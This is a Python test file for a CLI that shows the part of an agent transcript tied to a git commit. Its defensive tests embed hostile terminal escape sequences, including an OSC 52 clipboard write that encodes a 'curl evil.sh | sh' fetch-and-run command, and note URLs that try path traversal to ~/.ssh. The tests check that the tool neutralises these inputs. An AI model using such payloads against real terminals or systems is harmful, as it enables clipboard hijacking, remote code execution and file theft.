"""`tracekeeper show`: a commit's slice of a real agent transcript, from wherever it still exists."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from pathlib import Path

from .harness import (
    Env,
    cli_on_terminal,
    make_repo,
    note_links,
    running_daemon,
    session_repo,
    uploaded_elsewhere,
    wait_for,
)

FIXTURES = Path(__file__).parent / "fixtures"
CODEX = FIXTURES / "codex/sessions/2026/02/23/rollout-2026-02-23T13-19-38-019c8a70-dda7-7f33-98ea-f30553347322.jsonl"


def test_show_prints_the_commits_part_of_a_real_codex_session(env: Env) -> None:
    repo = make_repo(env).install()
    transcript = env.transcript(CODEX.name)
    lines = CODEX.read_bytes().splitlines(keepends=True)
    transcript.write_bytes(b"".join(lines[:10]))
    repo.activate(transcript)
    with running_daemon(env):
        first = repo.commit("first")
        wait_for(lambda: repo.note(first), what="note 1")
        with transcript.open("ab") as fh:
            fh.write(b"".join(lines[10:]))
        second = repo.commit("second")
        wait_for(lambda: repo.note(second), what="note 2")
    (meta,) = note_links(repo.note(second))
    assert meta["lines"] == [11, len(lines)]
    shown = env.cli("show", second, "-C", str(repo.path), "--json")
    data = json.loads(shown.stdout)
    (session,) = data["sessions"]
    assert session["verified"] is True and session["source"] == "transcript"
    assert session["lines"] == [11, len(lines)]
    assert all(11 <= turn["line"] <= len(lines) for turn in session["turns"])
    assert {turn["kind"] for turn in session["turns"]} >= {"assistant", "tool_call"}
    raw = env.cli("show", second, "-C", str(repo.path), "--raw").stdout.encode()
    assert raw == b"".join(lines[10:])
    full = json.loads(env.cli("show", second, "-C", str(repo.path), "--json", "--full").stdout)
    assert len(full["sessions"][0]["turns"]) > len(session["turns"])
    text = env.cli("show", first, "-C", str(repo.path)).stdout
    assert "codex session 019c8a70-dda7-7f33-98ea-f30553347322 · lines 1-10" in text
    assert "verified" in text


def test_show_downloads_from_the_bucket_when_the_transcript_is_gone(env: Env) -> None:
    with uploaded_elsewhere(env) as (_hub, repo, sha):
        data = json.loads(env.cli("show", sha, "-C", str(repo), "--json").stdout)
    (session,) = data["sessions"]
    assert session["source"] == "store" and session["verified"] is True
    assert session["turns"]


def test_show_errors_are_one_line(env: Env) -> None:
    repo = make_repo(env)
    sha = repo.commit("plain")
    no_note = env.cli("show", sha, "-C", str(repo.path), check=False)
    assert no_note.returncode == 1
    assert (
        no_note.stderr
        == f"Error: commit {sha[:12]} has no trace note (was an agent session active when it was made?)\n"
    )
    bad = env.cli("show", "nope", "-C", str(repo.path), check=False)
    assert bad.stderr == f"Error: 'nope' is not a commit in {repo.path}\n"
    outside = env.cli("show", "-C", str(env.root), check=False)
    assert outside.returncode == 1 and outside.stderr.startswith("Error: ") and "Traceback" not in outside.stderr


def test_show_flags_a_transcript_that_no_longer_matches(env: Env) -> None:
    repo, transcript = session_repo(env, 3)
    with running_daemon(env):
        sha = repo.commit_noted("x")
    transcript.write_text('{"rewritten": true}\n')  # the local copy changed; the store has the truth
    data = json.loads(env.cli("show", sha, "-C", str(repo.path), "--json").stdout)
    assert data["sessions"][0]["source"] == "snapshot"  # the daemon's copy of what the commit saw
    assert data["sessions"][0]["verified"] is True


def test_show_reads_gemini_legacy_json_sessions(env: Env) -> None:
    repo = make_repo(env).install()
    legacy = FIXTURES / "gemini" / "agent-history_real-session-01.json"
    transcript = env.home / ".gemini" / "tmp" / "abc" / "chats" / "session-2026-06-05T04-59-dcbe78d3.json"
    transcript.parent.mkdir(parents=True)
    shutil.copy(legacy, transcript)
    repo.activate(transcript, session_id="dcbe78d3-ea75-4786-929e-d6cff0fc00ed", agent="gemini")
    with running_daemon(env):
        sha = repo.commit_noted("x")
    data = json.loads(env.cli("show", sha, "-C", str(repo.path), "--json").stdout)
    (session,) = data["sessions"]
    assert session["agent"] == "gemini"
    assert any(turn["kind"] == "user" for turn in session["turns"])


#: What a hostile transcript (a tool's output, a web page the model read, a prompt pasted from
#: elsewhere) can hold: OSC 52 (write the clipboard), a window title, clear screen + home, an
#: 8-bit CSI, a bidi override, DEL, a carriage return hiding what precedes it, rich markup and
#: an emoji code; and a newline and a tab, which must keep their meaning.
HOSTILE = (
    "before \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;pwned\x07 \x1b[2J\x1b[H \x9b31m \u202egnp.exe \x7f"
    " \r[red]not red[/red] [link=https://evil.example]click[/link] :warning: after\nsecond\tline"
)
HOSTILE_SHOWN = [
    "before \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x1b]0;pwned\\x07 \\x1b[2J\\x1b[H \\x9b31m \\u202egnp.exe \\x7f",
    " \\r[red]not red[/red] [link=https://evil.example]click[/link] :warning: after\nsecond",
]


def on_terminal(env: Env, *args: str, cwd: Path | None = None) -> str:
    """Run the real CLI with its stdout on a pseudo-terminal (wide, so nothing wraps); what the terminal
    got, after asserting that the command succeeded."""
    code, out, errors = cli_on_terminal(env, *args, columns=400, cwd=cwd, stderr_too=False)
    assert code == 0, errors
    return out


def assert_nothing_reaches_the_terminal(out: str) -> None:
    """No control character of the text survives: only SGR styling (colour, bold) is left."""
    styling = re.sub(r"\x1b\[[0-9;]*m", "", out)
    for char in ("\x1b", "\x07", "\x9b", "\x7f", "\r", "\u202e"):
        assert char not in styling, (char, out)


def test_show_renders_a_transcripts_control_sequences_and_markup_visibly(env: Env) -> None:
    repo = make_repo(env).install()
    transcript = env.transcript(CODEX.name)
    meta = CODEX.read_bytes().splitlines(keepends=True)[0]

    def record(kind: str, payload: dict[str, object]) -> bytes:
        return json.dumps({"timestamp": "2026-11-25T09:00:00.000Z", "type": kind, "payload": payload}).encode() + b"\n"

    lines = [
        meta,
        record("event_msg", {"type": "user_message", "message": HOSTILE}),
        record(
            "response_item",
            {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": HOSTILE}]},
        ),
        record(
            "response_item",
            {"type": "function_call", "name": "shell\x1b]0;t\x07", "arguments": HOSTILE, "call_id": "c1"},
        ),
        record("response_item", {"type": "function_call_output", "call_id": "c1", "output": HOSTILE}),
    ]
    transcript.write_bytes(b"".join(lines))
    repo.activate(transcript)
    with running_daemon(env):
        sha = repo.commit_noted("x")

    env.vars["COLUMNS"] = "400"  # one line per paragraph, to compare whole lines
    piped = env.cli("show", sha, "-C", str(repo.path)).stdout
    terminal = on_terminal(env, "show", sha, "-C", str(repo.path))
    for out in (piped, terminal):
        assert_nothing_reaches_the_terminal(out)
        plain = re.sub(r"\x1b\[[0-9;]*m", "", out)
        assert plain.count(HOSTILE_SHOWN[0]) == 4, plain  # user, assistant, tool call, tool result
        assert plain.count(HOSTILE_SHOWN[1]) == 4, plain
        assert "shell\\x1b]0;t\\x07" in plain

    # The bytes themselves, for programs: --raw is the transcript as it is, --json escapes.
    raw = env.cli("show", sha, "-C", str(repo.path), "--raw").stdout.encode()
    assert raw == b"".join(lines[:5])
    shown = env.cli("show", sha, "-C", str(repo.path), "--json").stdout
    assert_nothing_reaches_the_terminal(shown)
    turns = json.loads(shown)["sessions"][0]["turns"]
    assert [t["text"] for t in turns if t["kind"] in ("user", "assistant")] == [HOSTILE, HOSTILE]


def test_visible_spells_out_exactly_what_a_terminal_would_act_on() -> None:
    from tracekeeper.safetext import markup, visible

    every = (
        "".join(map(chr, range(0x20)))
        + "\x7f\x85\x9b\x9d"
        + "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]))
    )
    shown = visible(every)
    assert shown.isprintable() and shown.isascii()
    assert shown.startswith("\\x00\\x01") and "\\n\\x0b\\x0c\\r" in shown and "\\t" in shown
    assert shown.endswith("\\x7f\\x85\\x9b\\x9d\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069")
    assert visible("a\nb\tc\rd", multiline=True) == "a\nb\tc\\rd"
    ordinary = "naïve 日本語 ⚙ — emoji 🙂, arabic مرحبا, backslash \\x1b stays"
    assert visible(ordinary) == ordinary
    assert markup("[bold]x[/bold] \x1b") == "\\[bold]x\\[/bold] \\x1b"


def test_show_reads_a_gemini_legacy_session_written_without_a_final_newline(env: Env) -> None:
    """gemini-cli < v0.39 writes `JSON.stringify(conversation, null, 2)`: no final newline (fixtures/SOURCES.md)."""
    repo = make_repo(env).install()
    legacy = FIXTURES / "gemini" / "agent-history_real-session-01.no-final-newline.json"
    doc = legacy.read_bytes()
    transcript = env.home / ".gemini" / "tmp" / "abc" / "chats" / "session-2026-06-05T04-59-dcbe78d3.json"
    transcript.parent.mkdir(parents=True)
    transcript.write_bytes(doc)
    repo.activate(transcript, session_id="dcbe78d3-ea75-4786-929e-d6cff0fc00ed", agent="gemini")
    with running_daemon(env):
        first = repo.commit("first")
        wait_for(lambda: repo.note(first), what="note 1")
        data = json.loads(env.cli("show", first, "-C", str(repo.path), "--json").stdout)
        (session,) = data["sessions"]
        assert session["verified"] is True
        assert [t["kind"] for t in session["turns"]][:2] == ["user", "assistant"]
        record = json.loads(doc)
        record["messages"].append(
            {"id": "later-1", "type": "user", "content": "Now add tests.", "timestamp": record["lastUpdated"]}
        )
        rewritten = json.dumps(record, indent=2).encode()  # rewritten whole, again without a final newline
        transcript.write_bytes(rewritten)
        second = repo.commit("second")
        wait_for(lambda: repo.note(second), what="note 2")
    (meta1,) = note_links(repo.note(first))
    (meta2,) = note_links(repo.note(second))
    # One document, ranged as one: each commit's range is the whole document it saw.
    assert meta1["lines"] == [1, doc.count(b"\n") + 1] and meta1["bytes"] == len(doc) + 1
    assert meta2["lines"] == [1, rewritten.count(b"\n") + 1]
    uploaded = Path(meta2["url"].removeprefix("file://")).read_bytes()
    assert json.loads(uploaded) == record  # the stored object is the whole, valid document
    text = env.cli("show", second, "-C", str(repo.path)).stdout
    assert "verified" in text and "differs" not in text
    assert "no readable turns" not in text and "Now add tests." in text


def test_a_note_url_that_urllib_rejects_is_one_clear_line(env: Env) -> None:
    """urllib.parse raises ValueError ("Invalid IPv6 URL") for a lone ']' in the host: a
    teammate's damaged note must still give one `Error:` line, not an unexpected ValueError."""
    repo = make_repo(env)
    sha = repo.commit("x")
    meta = {"url": "https://evil]/buckets/a/b/tree/c", "agent": "codex", "session": "s1", "lines": [1, 1]}
    meta |= {"bytes": 1, "sha256": "0" * 64}
    repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", "hf-trace-meta: " + json.dumps(meta), sha)
    proc = env.cli("show", sha, "-C", str(repo.path), check=False)
    assert (proc.returncode, proc.stderr) == (1, "Error: don't know how to fetch https://evil]/buckets/a/b/tree/c\n")


def test_an_error_quoting_a_notes_text_spells_its_control_characters_out(env: Env) -> None:
    """A note is a teammate's (hostile) text; an error that quotes it (a URL nobody can fetch)
    reaches stderr, a terminal, through the one error table, which spells control characters out."""
    repo = make_repo(env)
    sha = repo.commit("x")
    url = "gopher://evil\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x07\u202egnp"
    meta = {"url": url, "agent": "codex", "session": "s1", "lines": [1, 1], "bytes": 1, "sha256": "0" * 64}
    repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", "hf-trace-meta: " + json.dumps(meta), sha)
    proc = env.cli("show", sha, "-C", str(repo.path), check=False)
    assert proc.returncode == 1
    assert_nothing_reaches_the_terminal(proc.stderr)
    assert proc.stderr == (
        "Error: don't know how to fetch gopher://evil\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x07"
        "\\u202egnp\n"
    )


def test_a_note_pointing_at_a_local_file_outside_the_configured_store_is_not_read(env: Env) -> None:
    """A teammate's note (`tracekeeper pull`) can name any `file://` path: the private key next
    door, another user's data. `show` reads a note's file only inside the local store this
    machine is configured for (symlinks and `..` resolved first), and says in one line why not
    otherwise, never showing the file, even when it is a transcript matching the note's sha256."""
    store = env.root / "store"
    store.mkdir()
    env.vars["TRACEKEEPER_STORE"] = store.as_uri()
    private = env.home / ".ssh" / "notes.jsonl"
    private.parent.mkdir()
    data = CODEX.read_bytes()
    private.write_bytes(data)
    (store / "link.jsonl").symlink_to(private)
    shutil.copy(CODEX, store / "ok.jsonl")
    repo = make_repo(env)
    digest = hashlib.sha256(data).hexdigest()
    meta = {"agent": "codex", "session": "s1", "lines": [1, data.count(b"\n")], "bytes": len(data), "sha256": digest}
    hostile = [private.as_uri(), f"file://{store}/../h/.ssh/notes.jsonl", f"file://{store}/link.jsonl"]
    for index, url in enumerate([*hostile, f"file://{store}/ok.jsonl"]):
        sha = repo.commit(f"c{index}", file=f"f{index}.txt")
        note = "hf-trace-meta: " + json.dumps({"url": url, **meta})
        repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", note, sha)
        proc = env.cli("show", sha, "-C", str(repo.path), "--raw", check=False)
        if url in hostile:
            assert proc.returncode == 1 and proc.stdout == "", url
            assert proc.stderr.startswith(f"Error: {url} ") and proc.stderr.count("\n") == 1, proc.stderr
            assert "outside the configured local store" in proc.stderr
        else:
            assert (proc.returncode, proc.stdout.encode()) == (0, data), proc.stderr
